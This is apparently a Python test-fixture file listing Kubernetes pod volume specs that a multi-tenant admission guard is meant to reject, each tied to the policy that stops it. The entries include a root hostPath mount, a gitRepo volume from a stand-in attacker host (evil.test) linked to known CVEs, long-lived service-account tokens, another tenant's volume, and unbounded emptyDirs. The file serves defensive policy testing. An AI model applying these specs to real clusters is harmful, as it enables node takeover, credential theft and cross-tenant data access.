"""Pods with the wrong volumes."""

from typing import Final

from sublet.guards.attacks.claims import ALLOWED_CLASS
from sublet.guards.attacks.pods_shapes import Bad, claim, projected, volume

_HOST: Final = "Read and write the node's own files."
_FOREIGN: Final = "Mount what lies outside of the lease."
_CREDENTIALS: Final = "Keep a credential beyond the end of the lease."
_DISK: Final = "Fill the node's disk."
_NO_CLAIM: Final = ("MTB-pending-1198",)

VOLUMES: Final = (
    Bad(
        "host-path",
        _HOST,
        "allowed-volumes",
        lambda _: volume(hostPath={"path": "/"}),
        pod_stopped_by="pod-security",
        ids=("MTB-PL1-BC-HI-1", *_NO_CLAIM),
    ),
    Bad(
        "nfs",
        _FOREIGN,
        "allowed-volumes",
        lambda _: volume(nfs={"server": "10.0.0.1", "path": "/"}),
        ids=_NO_CLAIM,
    ),
    Bad(
        "inline-csi",
        _FOREIGN,
        "allowed-volumes",
        lambda _: volume(csi={"driver": "secrets-store.csi.k8s.io"}),
        ids=_NO_CLAIM,
    ),
    Bad("image-volume", _FOREIGN, "allowed-volumes", lambda _: volume(image={"reference": "evil.test/data"})),
    Bad(
        "git-repo",
        "Run a hook of a repository as root on the node.",
        "allowed-volumes",
        lambda _: volume(gitRepo={"repository": "https://evil.test/x.git"}),
        ids=("CVE-2024-10220", "CVE-2025-1767"),
    ),
    Bad(
        "iscsi",
        _FOREIGN,
        "allowed-volumes",
        lambda _: volume(iscsi={"targetPortal": "10.0.0.1", "iqn": "iqn.2001-04.com.example:disk", "lun": 0}),
        ids=_NO_CLAIM,
    ),
    Bad(
        "pod-certificate",
        _CREDENTIALS,
        "allowed-projections",
        lambda _: projected(
            podCertificate={"signerName": "example.com/any", "keyType": "ED25519", "credentialBundlePath": "bundle.pem"}
        ),
    ),
    Bad(
        "trust-bundle",
        _FOREIGN,
        "allowed-projections",
        lambda _: projected(clusterTrustBundle={"name": "owner", "path": "ca.pem"}),
    ),
    Bad(
        "long-token",
        _CREDENTIALS,
        "short-lived-tokens",
        lambda _: projected(serviceAccountToken={"path": "token", "expirationSeconds": 86400}),
    ),
    Bad("storage-class-of-the-owner", _FOREIGN, "allowed-storage-class", lambda _: claim(storageClassName="owner")),
    Bad("storage-class-of-the-cluster", _FOREIGN, "allowed-storage-class", lambda _: claim()),
    Bad("storage-without-class", _FOREIGN, "allowed-storage-class", lambda _: claim(storageClassName="")),
    Bad(
        "volume-of-somebody",
        "Take a volume that another tenant left.",
        "new-volumes-only",
        lambda _: claim(storageClassName=ALLOWED_CLASS, volumeName="pv-of-another-tenant"),
    ),
    Bad(
        "volume-from-a-snapshot",
        "Read a copy of another volume.",
        "new-volumes-only",
        lambda _: claim(
            storageClassName=ALLOWED_CLASS,
            dataSource={"apiGroup": "snapshot.storage.k8s.io", "kind": "VolumeSnapshot", "name": "x"},
        ),
    ),
    Bad("endless-empty-dir", _DISK, "bounded-empty-dirs", lambda _: volume(emptyDir={"sizeLimit": "0"})),
    Bad("huge-empty-dir", _DISK, "bounded-empty-dirs", lambda _: volume(emptyDir={"sizeLimit": "100Ti"})),
    Bad(
        "negligible-limit",
        _DISK,
        "bounded-empty-dirs",
        lambda _: volume(emptyDir={"sizeLimit": "11Ti", "medium": "Memory"}),
    ),
)
